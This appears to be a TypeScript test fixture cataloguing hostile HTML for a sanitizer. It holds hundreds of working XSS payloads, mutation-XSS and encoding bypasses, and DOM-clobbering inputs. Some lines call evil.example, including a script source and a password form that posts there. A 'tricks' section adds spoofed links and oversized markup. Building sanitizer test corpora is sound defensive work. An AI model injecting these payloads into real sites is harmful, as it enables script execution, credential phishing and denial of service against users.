/**
 * Untrusted HTML by class of attack. Whatever of it runs calls `alert`. Each has something that an offer's text may
 * not have, so that a test that finds nothing wrong with it as it stands has found nothing out.
 */
const each = (names: string, write: (name: string) => string): string[] => names.split(' ').map(write);

/** What loads, runs, submits, covers, steers or is a wall; the first one reaches out, as every control needs one that does. */
const ELEMENTS =
  'img script style link meta base iframe object embed applet portal fencedframe webview image picture source video ' +
  'audio track bgsound canvas map area model svg math form input button textarea select option optgroup fieldset legend ' +
  'label output keygen datalist meter progress search dialog details summary template slot offer-wall x-card is-x ' +
  'marquee blink spacer multicol nobr big font center listing noscript noembed noframes xmp plaintext ruby rt rp menu ' +
  'menuitem element shadow content geolocation permission selectedcontent annotation-xml color-profile missing-glyph';

/** Those that fire by themselves somewhere, and those that wait for the person. */
const HANDLERS =
  'onclick onauxclick ondblclick onmouseover onmouseenter onmousedown onpointerdown onpointerrawupdate ontouchstart ' +
  'onwheel oncontextmenu onkeydown onkeyup onfocusin onfocus onblur oncopy oncut onpaste onselectstart ondragstart ' +
  'ondrop oninput onbeforeinput onchange onscroll onscrollend onload onerror ontoggle onbeforetoggle onclose oncancel ' +
  'onsubmit onformdata onslotchange onanimationstart ontransitionend onsecuritypolicyviolation onpageshow onbegin ' +
  'oncontentvisibilityautostatechange';

/** What styles, names, describes, loads or does something; also what libraries of the page read. */
const ATTRIBUTES = [
  'style class id name part exportparts slot is hidden inert popover anchor align width height color bgcolor background',
  'src srcset srcdoc poster data ping attributionsrc action formaction cite longdesc profile href xlink:href xml:base',
  'xml:lang xmlns role tabindex accesskey autofocus contenteditable draggable aria-label aria-labelledby aria-owns',
  'aria-live aria-modal aria-hidden itemscope itemprop translate spellcheck inputmode enterkeyhint nonce data-theme',
  'data-base-url ng-init v-html x-data x-on:click hx-get data-turbo-frame data-action data-bind data-remote',
];

/** Properties of documents, windows and forms, and ids of the wall. */
const CLOBBERED =
  'body head forms cookie location document customElements sessionStorage fetch trustedTypes currentScript OfferWall ' +
  'attributes parentNode nodeName innerHTML childNodes removeChild getAttributeNames getElementById querySelector ' +
  'createElement implementation createPolicy __proto__ constructor offer-wall offers';

/** What some engine has run, shown, started or fetched. */
const SCHEMES =
  'javascript JaVaScRiPt vbscript livescript mocha view-source:javascript feed jar data DATA blob filesystem file about ' +
  'intent ms-msdt search-ms itms-services chrome ftp ws sms skype';

export const attacks: Record<string, readonly string[]> = {
  'an element that is no prose': each(
    ELEMENTS,
    (tag) => `<${tag} src=https://evil.example/x onclick=alert(1)>x</${tag}>`,
  ),
  'an event handler': each(HANDLERS, (name) => `<p tabindex=0 ${name}="alert(1)">Text</p>`),
  'other attributes': ATTRIBUTES.map((names) => `<p ${names.replaceAll(' ', '="https://evil.example/x" ')}>Text</p>`),
  'a name that stands in for something else': each(
    CLOBBERED,
    (name) => `<form id=${name}><input name=${name} id=${name}></form><img name=${name}>`,
  ),
  'an address of another kind': each(SCHEMES, (scheme) => `<a href="${scheme}:alert(1)">x</a>`),

  // Whole, hidden, unclosed, or put together by whoever takes something out.
  'a script': [
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<p><script/x>alert(1)</script>',
    '<script\n\n>alert(1)</script\n>',
    '<script>alert(1)',
    '<<script>alert(1);//<</script>',
    '<script type=importmap>{"imports":{"preact":"https://evil.example/p.js"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
    '<!-- --!><script>alert(1)</script>-->',
    '<![CDATA[x]]><script>alert(1)</script>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<title><script>alert(1)</script></title><script>alert(2)</script>',
    '<textarea></textarea ><script>alert(1)</script>',
    '<script><!--<script>alert(1)</script>--></script><img src=x onerror=alert(1)>',
  ],
  'a handler in an odd tag': [
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source src=x onerror=alert(1)></video>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<div/onmouseover=alert(1)>x</div>',
    '<p ONCLICK=alert(1)>Text</p>',
    '<p onclick\n=\nalert(1)>Text</p>',
    '<p onclick\u0000=alert(1) on\u0000click=alert(1) onclick=alert(1)>Text</p>',
    '<p a="x"onclick="alert(1)">Text</p>',
    '<p a=`x` onclick=alert`1`>Text</p>',
    '<p title="</p><img src=x onerror=alert(1)>" onclick=alert(1)>Text</p>',
    '<a href="https://shop.example" onclick="location=\'https://evil.example\'">x</a>',
    '<table><tr><td onclick=alert(1)>x</td></tr></table>',
    '<html manifest="https://evil.example/x" onclick=alert(1)><body onfocus=alert(1)>x',
    '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  ],
  'a document of its own': [
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.alert(1)&gt;">',
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    '<iframe/src="x"onload="alert(1)"/>',
    '<object type="text/html" data="javascript:alert(1)"></object>',
    '<object classid="clsid:d27cdb6e"><param name=movie value="https://evil.example/x.swf"></object>',
    '<embed type="text/html" src="data:text/html,<script>alert(1)</script>">',
    '<frameset onload=alert(1)></frameset><img src=x onerror=alert(1)>',
    '<noframes><iframe src=https://evil.example></noframes><iframe></iframe>',
    '<template shadowrootmode=open><style>:host{display:none}</style></template><p is=x>y</p>',
    '<div><template shadowrootmode=closed shadowrootclonable><script>alert(1)</script></template></div>',
    '<template><template><img src=x onerror=alert(1)></template></template>',
  ],
  // SVG and MathML have scripts, links, animations and parsing rules of their own.
  'foreign content': [
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /><text y=9>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=alert(1) /><text y=9>x</text></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><script>alert&lpar;1&rpar;</script></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><image href="https://evil.example/x.png" onerror=alert(1) /></svg>',
    '<svg><style>@import url(https://evil.example/x.css);*{fill:red}</style></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><iframe onload=alert(1)></iframe></desc></svg>',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg><svg/onload=alert(1)>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></math>',
    '<math><style><img src=x onerror=alert(1)></style></math>',
  ],
  // What a sanitizer saw is then not what a browser shows.
  'markup that changes when it is parsed again': [
    ...each(
      'noscript xmp noembed noframes iframe textarea title style',
      (tag) => `<${tag}><a title="</${tag}><img src=x onerror=alert(1)>"></${tag}>`,
    ),
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg></p><title><a id="</title><img src=1 onerror=alert(1)>"></title></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--x--!><img src=x onerror=alert(1)>-->',
    '<!-- <!-- --><img src=x onerror=alert(1)> -->',
    '<style><!--</style><img src=x onerror=alert(1)>--></style>',
    '<style></style/<img src=x onerror=alert(1)>></style>',
    '<title></title/><img src=x onerror=alert(1)></title>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<table><style><table><a title="</style><img src=x onerror=alert(1)>"></table>',
    '<table><caption><svg><desc><table><caption><img src=x onerror=alert(1)></caption></table></desc></svg></caption></table>',
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    '<svg><desc><style><!--</style><p id="--><img src=x onerror=alert(1)>"></desc></svg>',
    '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style><img src=x onerror=alert(1)>',
    '<math><mi><style><mi title="</style><img src=x onerror=alert(1)>">',
    '<a><a><svg><a><style><a title="</style><img src=x onerror=alert(1)>"></a></style></a></svg></a>',
    '<font face="`onmouseover=alert(1)//">x</font>',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?x <img src=x onerror=alert(1)>?><img src=x onerror=alert(1)>',
    '</ <img src=x onerror=alert(1)>><img src=x onerror=alert(1)>',
    '<image/src/onerror=alert(1)>',
    '<isindex prompt=x action="javascript:alert(1)"><img src=x onerror=alert(1)>',
    '<dialog><p><table><dialog><img src=x onerror=alert(1)></table></p></dialog>',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
    `${'<div>'.repeat(510)}<table><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `${'<r>'.repeat(505)}<a>${'<r>'.repeat(20)}<svg><desc><style><a title="</style><img src=x onerror=alert(1)>">`,
  ],
  // Broken markup: unclosed, crossed and doubled, as copied together by many hands.
  'broken markup': [
    '<img src="x" onerror="alert(1)"',
    '<img src=x onerror=alert(1)//',
    '<img """><script>alert(1)</script>">',
    "<img src='x'onerror='alert(1)'a=\">\">",
    '<p/onclick=alert(1)/x>Text</p>',
    '<p onclick=alert(1) onclick=alert(2) ONCLICK=alert(3)>Text</p>',
    '<b><i><u onclick=alert(1)></b></i></u>',
    '<table><tr><a href="javascript:alert(1)">x</a></tr></table>',
    '<ul><table><li onclick=alert(1)>x</ul></table>',
    '<a href="https://shop.example" href="javascript:alert(1)" class=x>x</a>',
    '</p onclick=alert(1)><br/onclick=alert(1)>',
    '<=img src=x onerror=alert(1)><img src=x onerror=alert(1)>',
    '<p "onclick=alert(1)">Text</p>',
    '<head><p id=a></head><body onclick=alert(1)><frameset onload=alert(1)>',
    '<option><p onclick=alert(1)>Text</option></select></form></table></div></section></dialog>',
    '</div></div></section></dialog></offer-wall><img src=x onerror=alert(1)>',
  ],
  // What covers the page, hides parts of it, or tells somebody what is on it, asks for secrets, or steers the page.
  'something that acts on the page': [
    '<style>:host{display:none}.get{opacity:0}</style><style>@import "https://evil.example/x.css";</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/b)">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>',
    '<a href="https://evil.example" style="display:block;position:fixed;inset:0;z-index:99999"> </a>',
    '<table background="https://evil.example/b.png" width=9999 bgcolor=red><tr><td nowrap height=9999>x</table>',
    '<body background=https://evil.example/b.png text=red link=red>x</body>',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=expect blocking=render href="#never">',
    '<form action="https://evil.example"><input type=password name=p><button>Sign in</button></form>',
    '<form id=f></form><button form=f formaction="javascript:alert(1)" formmethod=post>x</button>',
    '<button commandfor=x command=show-modal popovertarget=x>x</button><dialog id=x popover>y</dialog>',
    '<base href="https://evil.example/" target=_top><a href="https://evil.example">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
    '<img srcset="https://evil.example/1x 1x, https://evil.example/2x 2x">',
    '<picture><source srcset="https://evil.example/b.png"><img></picture>',
    '<video autoplay muted><source src="https://evil.example/b.webm"></video>',
    '<a href="https://shop.example" ping="https://evil.example/ping" attributionsrc="https://evil.example/a">x</a>',
  ],
  // Other charsets, entities, NULs and half characters: what is one thing to a filter and another to a parser.
  'an encoding': [
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x onerror=alert(1)>',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be<img src=x onerror=alert(1)>',
    '<\u0000script>alert(1)</script\u0000><script>alert(1)</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt><img\u0000 src=x onerror=alert(1)>',
    '<img\u000bsrc=x onerror=alert(1)><img\u000csrc=x\u000conerror=alert(1)>',
    '<img/\u00a0src=x onerror=alert(1)>',
    '<img src=x\u2028onerror=alert(1)><img src=x\u3000onerror=alert(1)><img src=x onerror=alert(1)>',
    '\u001b$B<img src=x onerror=alert(1)>\u001b(B',
    '\ufeff<img src=x onerror=alert(1)>',
    '\ufffe<img src=x onerror=alert(1)>\uffff',
    '<\u017fcript>alert(1)</\u017fcript><\u212ayle><img src=x onerror=alert(1)>',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<b id=x>x</b>',
    '&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;<p id=x>x</p>',
    '<a href=\u0000"https://evil.example"\u0000onclick=alert(1)>x</a>',
  ],
  // In every disguise that browsers see through.
  'an address that runs, or leads into the page': [
    ...['\t', '\n', '\r', '\0', '\u200b', '&NewLine;'].map((sign) => `<a href="java${sign}script:alert(1)">x</a>`),
    ...['\u0001', '\u001f ', ' &#14;  ', '\ufeff'].map((sign) => `<a href="${sign}javascript:alert(1)">x</a>`),
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript&colon;alert&lpar;1&rpar;">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#58;x">x</a>',
    '<a href="javascript://https://shop.example/%0Aalert(1)">x</a>',
    '<a href="javascript:/*https://shop.example*/alert(1)" target=_self>x</a>',
    '<a href=javascript&#58;alert(1)>x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:,x" download=invoice.exe>x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="/logout">x</a>',
    '<a href="#/settings">x</a>',
    '<a xlink:href="javascript:alert(1)" href>x</a>',
    '<area href="javascript:alert(1)" shape=default>',
    '<q cite="javascript:alert(1)">x</q>',
  ],
};

/** Hostile without one thing that is forbidden: only what they look like or how much they are. */
const tricks: Record<string, readonly string[]> = {
  // Links of allowed kinds that hide where they lead. What is left of them has to say it.
  'a link that deceives': [
    '<a href="https://bank.example%2Flogin@evil.example/">bank.example</a>',
    '<a href="https://user:password@evil.example/">x</a>',
    '<a href="https://@evil.example/">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="https:evil.example/x">x</a>',
    '<a href="http:/logout">x</a>',
    '<a href="https:?delete=1">x</a>',
    '<a href="https:\\\\evil.example\\x">x</a>',
    '<a href="ht\ttps://evil.example/">x</a>',
    '<a href="\u00a0https://evil.example/">x</a>',
    '<a href="https://\u0440\u0430\u0443\u0440\u0430l.example/">paypal</a>',
    '<a href="https://evil\u3002example/">x</a>',
    '<a href="https://\u24d4\u24e5\u24d8\u24db.example/">x</a>',
    '<a href="https://evil.example/\u202egpj.bank.example">\u202emoc.knab</a>',
    '<a href="https://2130706433:443/">x</a>',
    '<a href="https://[::ffff:7f00:1]/">x</a>',
    '<a href="https://bank.example%00.evil.example/">x</a>',
    '<a href="mailto:help@bank.example?bcc=evil@evil.example&body=x">help</a>',
    '<a href="mailto:h\u0435lp@b\u0430nk.example">help@bank.example</a>',
    '<a href="tel:*21*123#">help</a>',
    '<a href="https://evil.example" title="bank.example" target=_top rel=opener>x</a>',
    '<a href="https://evil.example/"><h3>Get offer</h3></a>',
  ],
  // Allowed markup in amounts that no honest text has, and text that is not what it looks like.
  'an excess': [
    '<div>'.repeat(3000),
    `<table>${'<tr><td>'.repeat(800)}`,
    '<b>'.repeat(2000),
    '<a href="https://evil.example/">'.repeat(500),
    `<p>${'A'.repeat(50_000)}</p>`,
    `<a href="https://evil.example/${'a'.repeat(20_000)}">x</a>`,
    '<br>'.repeat(5000),
    '&nbsp;'.repeat(20_000),
    '<table><tr><td colspan=99999 rowspan=99999>x</td></tr></table>',
    '<ol start=2147483647><li>x<li value=-2147483648>y</ol>',
    '<h1>'.repeat(100),
    `<p lang="${'x'.repeat(20_000)}">x</p>`,
    'Pay \u202e000,1\u202c points \u2066\u2067\u2068\u202a\u202b\u202d unclosed',
    'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(300),
    `Free${'\u200b\u200c\u200d\u2060\ufeff\u3164\u2800'.repeat(500)}`,
    '\u{e0041}\u{e0042}\u{e007f} tags',
    '\ufdfd'.repeat(200),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine of the page would run
    '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
    '**bold** [x](javascript:alert(1)) ![x](https://evil.example/b.png)',
    '\'"><!-- ]]> */ --> ` {name} {count|x} %s \\',
    'Your session has expired. <strong>Close</strong> this <u>page</u> and <code>sign in</code> again.',
  ],
};

/** All of them by class, and what is hostile without one thing that is forbidden. */
export const hostile: Record<string, readonly string[]> = { ...attacks, ...tricks };
